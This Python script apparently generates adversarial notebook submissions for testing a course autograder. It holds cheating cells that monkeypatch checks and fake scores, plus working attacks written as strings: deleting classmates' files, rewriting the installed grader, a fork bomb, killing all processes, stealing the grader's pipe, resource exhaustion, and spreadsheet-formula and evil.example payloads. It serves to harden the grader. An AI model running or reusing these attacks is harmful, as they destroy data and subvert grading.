"""Write the adversarial submissions that tests/grading/test_grade.py grades (chapter 05).

Run ``python tests/submissions/make_submissions.py`` after changing a notebook here; the
.ipynb files are kept in git so an instructor can open them and see what each one tries.
Every notebook answers the three sample questions of chapter 05 (05.ridge_h100,
05.axpy_bound, 05.kernel_time); the file name says what else it does.

``NOTEBOOKS`` cheat or break inside their own kernel (loops, crashes, monkeypatching).
``HOSTILE`` attack the grader and classmates, each with an attack that beat the grader before
every submission ran in a sandbox of its own.  ``write_hostile_files`` makes, at test time,
the files whose names or sizes are the attack.
"""

from __future__ import annotations

import os
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

HERE = Path(__file__).parent

IMPORT = "from gpu_lessons.checks import check"
# 494.7 TFLOP/s / 3.35 TB/s from the H100 whitepaper: the dense TF32 ridge point.
RIDGE = "ridge_h100 = 494.7e12 / 3.35e12\ncheck('05.ridge_h100', ridge_h100)"
AXPY = "axpy_bound = 'memory-bound'\ncheck('05.axpy_bound', axpy_bound)"
KTIME = ("def kernel_time(flops, bytes_moved, peak_flops, bandwidth):\n"
         "    return max(flops / peak_flops, bytes_moved / bandwidth)\n"
         "check('05.kernel_time', kernel_time)")
GOOD = [IMPORT, RIDGE, AXPY, KTIME]
# Tests set GPU_LESSONS_TEST_PIDS to a folder; the kernel records its PID there, so a test can
# prove the grader killed it.
RECORD_PID = ("import os\n\n"
              "_d = os.environ.get('GPU_LESSONS_TEST_PIDS')\n"
              "if _d:\n"
              "    with open(os.path.join(_d, 'sigint_ignored.pid'), 'w') as f:\n"
              "        f.write(str(os.getpid()))")

NOTEBOOKS = {
    # Two answers right; kernel_time raises an error whose message is a lone surrogate
    # ("\\ud800" in the JSON the grader reads): no UTF-8 file can hold it, and it once
    # stopped grades.json and every feedback file of the class from being written.
    "surrogate_05.ipynb": [
        IMPORT, RIDGE, AXPY,
        "def kernel_time(flops, bytes_moved, peak_flops, bandwidth):\n"
        "    raise ValueError('\\ud800 no UTF-8 file can hold this')",
    ],
    # A complete, correct submission: 5/5.
    "good_05.ipynb": GOOD,
    # The exercise as handed out: every answer still a stub -> "not attempted", no errors.
    "stub_05.ipynb": [
        IMPORT,
        "ridge_h100 = ...  # FLOP/byte\ncheck('05.ridge_h100', ridge_h100)",
        "axpy_bound = ...\ncheck('05.axpy_bound', axpy_bound)",
        "def kernel_time(flops, bytes_moved, peak_flops, bandwidth):\n"
        "    raise NotImplementedError  # your code here\n"
        "check('05.kernel_time', kernel_time)",
    ],
    # Cells that raise, call sys.exit() and print ~5 MB, then correct answers: all still count.
    "errors_05.ipynb": [
        "1 / 0",
        "import sys\n\nsys.exit('bye')",
        "for _ in range(50_000):\n    print('x' * 100)",
        *GOOD,
    ],
    # An endless loop (interruptible), then correct answers for two questions and a
    # kernel_time that never returns for compute-bound inputs.
    "loop_05.ipynb": [
        "while True:\n    pass",
        IMPORT, RIDGE, AXPY,
        "def kernel_time(flops, bytes_moved, peak_flops, bandwidth):\n"
        "    while flops / peak_flops > bytes_moved / bandwidth:\n"
        "        pass\n"
        "    return bytes_moved / bandwidth",
    ],
    # Answers, then a loop with SIGINT ignored: only the hard per-notebook kill stops it.  (It
    # sleeps rather than spins: an ignored SIGINT never reaches it either way, and a spinning
    # loop would burn a core until the notebook limit, slowing every other test.)
    "sigint_05.ipynb": [
        *GOOD,
        RECORD_PID,
        "import signal\nimport time\n\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "while True:\n    time.sleep(0.1)",
    ],
    # The kernel process exits in the middle.
    "osexit_05.ipynb": [IMPORT, RIDGE, "import os\n\nos._exit(3)", AXPY, KTIME],
    # Wrong answers dressed up: check redefined, the package monkeypatched so the notebook's
    # own checks pass, an answer object whose == is always True, and a fake success banner.
    "tamper_05.ipynb": [
        "import gpu_lessons.checks as C\n"
        "import gpu_lessons.questions.lesson05 as lesson05\n"
        "from gpu_lessons import hardware\n\n"
        "hardware.GPU.ridge_point = lambda self, *a, **k: 1.0\n"
        "lesson05._ridge_h100_fp16 = lambda: 1.0\n"
        "lesson05._axpy_bound = lambda: 'compute-bound'\n"
        "lesson05._kernel_time_reference = lambda flops, bytes_moved, peak_flops, bandwidth: 1.0\n"
        "C._close = lambda *a, **k: True\n"
        "C.check = check = lambda *a, **k: print('✓ correct')",
        "ridge_h100 = 1.0\nC.check('05.ridge_h100', ridge_h100)",
        "class Agreeable(str):\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "    __hash__ = str.__hash__\n"
        "axpy_bound = Agreeable('compute-bound')\ncheck('05.axpy_bound', axpy_bound)",
        "def kernel_time(flops, bytes_moved, peak_flops, bandwidth):\n"
        "    return 1.0\n"
        "check('05.kernel_time', kernel_time)",
        "print('All tests passed! Score: 5/5')",
    ],
    # Correct answers that pass their checks and are then overwritten with wrong ones, and a
    # wrong answer fixed after its check failed: the final state is what counts.
    "edited_05.ipynb": [
        *GOOD,
        "ridge_h100 = 2 * ridge_h100",
        "def kernel_time(flops, bytes_moved, peak_flops, bandwidth):\n"
        "    return flops / peak_flops + bytes_moved / bandwidth",
        "axpy_bound = 'compute-bound'\ncheck('05.axpy_bound', axpy_bound)",
        "axpy_bound = 'memory-bound'",
    ],
}


# -- attacks on the grader and on classmates ---------------------------------------------------
# Each attack catches its own errors, so a notebook whose attack fails still reaches its
# answers, and a test can tell "the attack did nothing" from "the attack broke the kernel".
# Never run these notebooks outside the grader's sandbox (killer_05 kills every process it
# may signal).

# The worker (the kernel's parent) reports to the grader on the descriptor its command line
# ends with.  The pipe belongs to the grader (root in CI: /proc/PID/fd refuses to reopen it),
# but the worker runs as the kernel's own user, so the kernel can take the worker's copy
# (pidfd_getfd, Linux 5.6+) and write lines of its own.
RESULT_CHANNEL = '''\
import ctypes
import os


def grader_channel():
    parent = os.getppid()
    with open(f"/proc/{parent}/cmdline", "rb") as f:
        argv = f.read().split(b"\\0")
    fd = int([a for a in argv if a][-1])
    try:
        return open(f"/proc/{parent}/fd/{fd}", "wb", buffering=0)
    except PermissionError:
        libc = ctypes.CDLL(None, use_errno=True)
        pidfd = libc.syscall(434, parent, 0)  # pidfd_open
        stolen = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
        if stolen < 0:
            raise OSError(ctypes.get_errno(), "pidfd_getfd failed") from None
        return os.fdopen(stolen, "wb", buffering=0)'''

# Look for classmates' notebooks and the grades through /proc and the disk; overwrite and
# delete every one found.
SPY = '''\
import contextlib
import glob
import os

seen = set()
for link in glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root") + glob.glob("/proc/*/fd/*"):
    with contextlib.suppress(OSError):
        seen.add(os.path.realpath(link))
for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
    with contextlib.suppress(OSError), open(cmdline, "rb") as f:
        words = f.read().decode(errors="replace").split("\\0")
        seen.update(w for w in words if w.startswith("/"))
tops = {"/work", "/home", "/root", "/srv", "/mnt", "/var", "/tmp", "/opt", "/builds"}
tops |= {os.path.dirname(p) for p in seen} | {os.path.dirname(os.path.dirname(p)) for p in seen}
victims, looked = [], 0
for top in sorted(tops):
    for here, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("site-packages", "proc", "sys")]
        victims += [os.path.join(here, f) for f in files if f.endswith((".ipynb", ".csv", ".json"))]
        looked += len(files)
        if looked > 20_000:  # enough to find a submissions folder in reach
            break
own = os.path.join(os.getcwd(), "submission.ipynb")
changed = 0
for path in victims:
    if path != own:
        try:
            with open(path, "w") as f:
                f.write("{}")
            changed += 1
        except OSError:
            pass
        try:
            os.remove(path)
            changed += 1
        except OSError:
            pass'''

# Rewrite the installed grader, and plant .pth / sitecustomize files for the next run.
REWRITE_INSTALL = '''\
import contextlib
import os
import site
import sys

import gpu_lessons

package = os.path.dirname(gpu_lessons.__file__)
for name in ("grading/runner.py", "grading/rows.py", "checks.py", "grade.py", "__init__.py"):
    try:
        with open(os.path.join(package, name), "a") as f:
            f.write("\\nraise SystemExit('the grader was rewritten')\\n")
    except OSError:
        pass
for folder in [*site.getsitepackages(), sys.prefix, sys.base_prefix, package]:
    for name in ("zz_hostile.pth", "sitecustomize.py", "usercustomize.py"):
        try:
            with open(os.path.join(folder, name), "w") as f:
                f.write("import os; os.environ['HOSTILE'] = '1'\\n")
        except OSError:
            pass
    with contextlib.suppress(OSError):
        os.chmod(folder, 0o777)'''

# Forged answers where later notebooks' grading used to keep its temporary files.
PLANT = '''\
import json
import os

forged = {"05.ridge_h100": {"kind": "number", "value": 0.0},
          "05.axpy_bound": {"kind": "str", "value": "compute-bound"}}
for i in range(64):
    for folder in (f"/tmp/gpu-lessons-grade-{i:08x}/probes", f"/tmp/gpu-lessons-grade-{i}"):
        try:
            os.makedirs(folder, exist_ok=True)
            for qid, obs in forged.items():
                with open(os.path.join(folder, qid + ".json"), "w") as f:
                    f.write(json.dumps({"id": qid, "observation": obs}))
        except OSError:
            pass'''

# A daemon in a session of its own, forked twice, that keeps trying to rewrite any grades
# file it can find for a minute after the notebook ends.  Its argv carries a marker.
DAEMON = '''\
import subprocess
import sys

DAEMON = """
import glob, os, time
if os.fork():
    os._exit(0)
os.setsid()
end = time.time() + 60
while time.time() < end:
    for top in ("/work", "/tmp", "/root", "/home", "/srv"):
        for path in glob.glob(top + "/**/grades*.*", recursive=True):
            try:
                open(path, "w").write('=HYPERLINK("http://evil.example")')
            except OSError:
                pass
    time.sleep(0.5)
"""
subprocess.Popen([sys.executable, "-c", DAEMON, "gpu-lessons-hostile-daemon"],
                 start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)'''

KILL_ALL = '''\
import contextlib
import os
import signal

for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
os.kill(-1, signal.SIGKILL)'''

FILL_DISKS = '''\
import os


def fill(folder):
    n = 0
    try:
        while n < 4096:
            with open(os.path.join(folder, f"fill{n}"), "wb") as f:
                f.write(b"x" * 2**20)
            n += 1
    except OSError:
        pass
    return n


filled = fill("/tmp"), fill(os.getcwd())'''

SPARSE_LOG = '''\
try:
    with open("grader.log", "wb") as f:
        f.truncate(2 * 2**30)
except OSError:
    pass'''

MEMORY_HOG = '''\
try:
    hog = bytearray(8 * 2**30)
except MemoryError:
    hog = None'''

FORK_BOMB = '''\
import os
import signal
import time

children = 0
try:
    while children < 100_000:
        if os.fork() == 0:
            signal.signal(signal.SIGINT, signal.SIG_IGN)  # the cell interrupt reaches us too
            time.sleep(3600)
            os._exit(0)
        children += 1
except OSError:
    pass'''

FLOOD = '''\
chunk = b"x" * 2**20
with grader_channel() as out:
    for _ in range(100):
        out.write(chunk)
with open(f"/proc/{os.getppid()}/fd/1", "wb") as log:
    for _ in range(200):
        log.write(chunk)'''

DEEP_JSON = '''\
with grader_channel() as out:
    out.write(b"[" * 200_000 + b"\\n")'''

FORGED_PGID = '''\
import json

with grader_channel() as out:
    out.write(json.dumps({"event": "kernel", "kernel_pgid": 1}).encode() + b"\\n")
    out.write(json.dumps({"kernel_pgid": 1, "status": "ok", "finished": True}).encode() + b"\\n")'''

# Outside the sandbox these cells would do real harm (delete notebooks, kill every process
# root can reach), so each attack runs only where it finds the sandbox's work folder and pids.
SANDBOX_ONLY = '''\
import os

# A test submission that attacks whatever it can reach: its attack cells run only inside the
# grader's sandbox, where the work folder holds the one notebook and the pids are small.
IN_SANDBOX = os.path.exists("/sandbox/submission.ipynb") and os.getpid() < 1000'''


def attack(code: str) -> str:
    return ("if not IN_SANDBOX:\n"
            "    raise SystemExit(\"attack skipped: not inside the grader's sandbox\")\n" + code)


HOSTILE = {
    # Spies on and edits classmates' notebooks and the grades, rewrites the package, plants
    # .pth files and forged answers in /tmp, starts a daemon; then answers correctly.
    "intruder_05.ipynb": [SANDBOX_ONLY, *map(attack, (SPY, REWRITE_INSTALL, PLANT, DAEMON)),
                          *GOOD],
    # Correct answers, then SIGKILL to every process it sees and to all it may signal.
    "killer_05.ipynb": [SANDBOX_ONLY, *GOOD, attack(KILL_ALL)],
    # Fills the temporary and work folders, a 2 GiB sparse log, 8 GiB of memory; then answers.
    "fill_05.ipynb": [SANDBOX_ONLY, *map(attack, (FILL_DISKS, SPARSE_LOG, MEMORY_HOG)), *GOOD],
    # Correct answers, then forks until the process limit says no (children sleep an hour).
    "forkbomb_05.ipynb": [SANDBOX_ONLY, *GOOD, attack(FORK_BOMB)],
    # 100 MiB without a newline into the grader's result channel, 200 MiB into its log.
    "flood_05.ipynb": [SANDBOX_ONLY, *GOOD, RESULT_CHANNEL, attack(FLOOD)],
    # JSON nested 200,000 deep into the result channel (it once crashed the grader's cleanup).
    "deepjson_05.ipynb": [SANDBOX_ONLY, *GOOD, RESULT_CHANNEL, attack(DEEP_JSON)],
    # A forged report naming process group 1 (it once made the grader kill everything).
    "pgid_05.ipynb": [SANDBOX_ONLY, *GOOD, RESULT_CHANNEL, attack(FORGED_PGID)],
}


# The three breaches and the weaknesses of the second red-team review, each retried.  Every
# one ends with the three answers, the last of them depending on whether the attack was
# stopped (`blocked`): a notebook whose attack worked loses the 05.axpy_bound point, so a
# full score proves the attack failed (tests/grading/test_grade_breaches.py).
MEMFD_HOG = '''\
import os

# Pages held by memfds use no address space (RLIMIT_AS does not see them) and count in no
# process's RSS: 48 x 64 MiB = 3 GiB, more than the container's 2.5 GiB.
fds = []
for i in range(48):
    fd = os.memfd_create(f"hog{i}")
    os.ftruncate(fd, 64 * 2**20)
    os.write(fd, b"x" * (64 * 2**20))
    fds.append(fd)
blocked = False'''

USERNS_TMPFS = '''\
import subprocess

# A user namespace of its own could mount a tmpfs outside the sandbox's size limits.
try:
    made = subprocess.run(["unshare", "-Urm", "sh", "-c",
                           "mount -t tmpfs none /tmp && head -c 1048576 /dev/zero > /tmp/x"],
                          capture_output=True, timeout=20)
    blocked = made.returncode != 0
except (OSError, subprocess.SubprocessError):
    blocked = True'''

KEYRING = '''\
import ctypes

# Keyrings belong to a user id, not to a namespace: plant a key in the user keyring, and
# look for one a classmate graded earlier in the same user-id slot planted.
libc = ctypes.CDLL(None, use_errno=True)
KEY_SPEC_USER_KEYRING = -4
planted = libc.syscall(248, b"user", b"gpu-lessons-plant", b"answers", 7,
                       KEY_SPEC_USER_KEYRING)  # add_key
found = libc.syscall(249, b"user", b"gpu-lessons-plant", None, 0)  # request_key
blocked = planted < 0 and found < 0'''

FORGED_STREAM = '''\
import json

# 56 MiB of well-formed events into the worker's result pipe (pidfd_getfd): it once grew the
# grader from 79 to 1,058 MiB.
try:
    with grader_channel() as out:
        line = json.dumps({"event": "cell", "index": 1}).encode() + b"\\n"
        for _ in range(56 * 2**20 // len(line)):
            out.write(line)
    blocked = False
except OSError:
    blocked = True'''

MARKDOWN = '''\
# An exception whose name is Markdown: a link, an image, a heading after a line break.
Evil = type("Pwn](https://evil.example/)![x](https://evil.example/i.png)", (Exception,), {})
raise Evil("`code` <b>bold</b> [link](https://evil.example/)")'''


def _then(answer: str) -> str:
    return ("axpy_bound = 'memory-bound' if blocked else 'compute-bound'\n"
            "check('05.axpy_bound', axpy_bound)") if answer == AXPY else answer


def _guarded(code: str) -> list[str]:
    return [SANDBOX_ONLY, "blocked = True", attack(code), IMPORT, RIDGE, _then(AXPY), KTIME]


BREACHES = {
    "memfd_05.ipynb": [SANDBOX_ONLY, IMPORT, RIDGE, "blocked = True", attack(MEMFD_HOG),
                       _then(AXPY), KTIME],
    "userns_05.ipynb": _guarded(USERNS_TMPFS),
    "keyring_05.ipynb": _guarded(KEYRING),
    "keyring2_05.ipynb": _guarded(KEYRING),
    "forged_05.ipynb": [SANDBOX_ONLY, "blocked = True", RESULT_CHANNEL, attack(FORGED_STREAM),
                        IMPORT, RIDGE, _then(AXPY), KTIME],
    "markdown_05.ipynb": [*GOOD, MARKDOWN],
}


def write_all(folder: Path = HERE) -> list[Path]:
    written = []
    breaches = folder / "breaches"
    breaches.mkdir(exist_ok=True)
    for name, cells in {**NOTEBOOKS, **HOSTILE,
                        **{f"breaches/{k}": v for k, v in BREACHES.items()}}.items():
        nb = new_notebook(cells=[new_markdown_cell(f"Test submission `{name}`"),
                                 *(new_code_cell(src) for src in cells)])
        for i, cell in enumerate(nb.cells):  # fixed ids: regenerating changes nothing
            cell.id = f"cell-{i}"
        # A released notebook's metadata may spell the chapter "05": it must not matter.
        nb.metadata["gpu_lessons"] = {"chapter": "05" if name == "breaches/keyring2_05.ipynb"
                                      else 5}
        nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                     "language": "python"}
        path = folder / name
        nbformat.write(nb, path)
        written.append(path)
    return written


def write_invalid(folder: Path) -> list[Path]:
    """Files that are not notebooks: a truncated download and JSON of the wrong shape.

    Written at test time into a scratch folder (not kept in git: linters and editors choke
    on them).
    """
    truncated, wrong_shape = folder / "truncated_05.ipynb", folder / "notanotebook_05.ipynb"
    truncated.write_text('{"cells": [{"cell_type": "code", "sou', "utf-8")
    wrong_shape.write_text('["just", "a", "list"]', "utf-8")
    return [truncated, wrong_shape]


def write_hostile_files(folder: Path) -> dict[str, str]:
    """Files whose *names* or *size* attack the grader, written at test time (git, editors or
    other systems would choke on them): names a spreadsheet runs as formulas or with control
    characters, a 2 GiB sparse file, JSON nested 200,000 deep, a symbolic link to a system
    file.  Returns {file name: what it is}."""
    made = {}
    for name in ("=1+2_05.ipynb", "@SUM(A1)_05.ipynb", "+cmd|' calc'!A0_05.ipynb",
                 "-2+3_05.ipynb", "\tTab_05.ipynb", "bell\x07_05.ipynb"):
        (folder / name).write_text("{oops", "utf-8")
        made[name] = "a name a spreadsheet would run, or with control characters"
    with open(folder / "huge_05.ipynb", "wb") as f:  # sparse: takes no disk space
        f.truncate(2 * 2**30)
    made["huge_05.ipynb"] = "2 GiB"
    (folder / "deep_05.ipynb").write_text("[" * 200_000 + "]" * 200_000, "utf-8")
    made["deep_05.ipynb"] = "JSON nested 200,000 deep"
    (folder / "link_05.ipynb").symlink_to("/etc/passwd")
    made["link_05.ipynb"] = "a symbolic link"
    os.mkfifo(folder / "pipe_05.ipynb")  # an archive can hold one; open() waits for a writer
    made["pipe_05.ipynb"] = "a named pipe"
    with open(os.path.join(os.fsencode(folder), b"latin\xe9_05.ipynb"), "w") as f:
        f.write("{oops")  # a Latin-1 name: Python reads it with a lone surrogate in it
    made[os.fsdecode(b"latin\xe9_05.ipynb")] = "a file name that is not UTF-8"
    return made


def write_breach_files(folder: Path) -> dict[str, str]:
    """The breach files made at test time: 336k empty cells (32 MiB), a hard link to a
    classmate's notebook, a name with backticks and Markdown.  Returns {name: what it is}."""
    cell = b'{"cell_type":"code","metadata":{},"outputs":[],"source":""},'
    n = (32 * 2**20 - 200) // len(cell)
    body = b'{"nbformat":4,"nbformat_minor":5,"metadata":{"gpu_lessons":{"chapter":5}},"cells":['
    with open(folder / "cells_05.ipynb", "wb") as f:
        f.write(body + cell * (n - 1) + cell[:-1] + b"]}")
    made = {"cells_05.ipynb": f"{n:,} empty cells"}
    good = HERE / "good_05.ipynb"
    (folder / "victim_05.ipynb").write_bytes(good.read_bytes())
    os.link(folder / "victim_05.ipynb", folder / "thief_05.ipynb")
    made["thief_05.ipynb"] = made["victim_05.ipynb"] = "two names of one file (a hard link)"
    name = "tick`](https:evil)`_05.ipynb"
    (folder / name).write_bytes(good.read_bytes())
    made[name] = "a name with backticks and a Markdown link"
    return made


if __name__ == "__main__":
    for p in write_all():
        print(p)
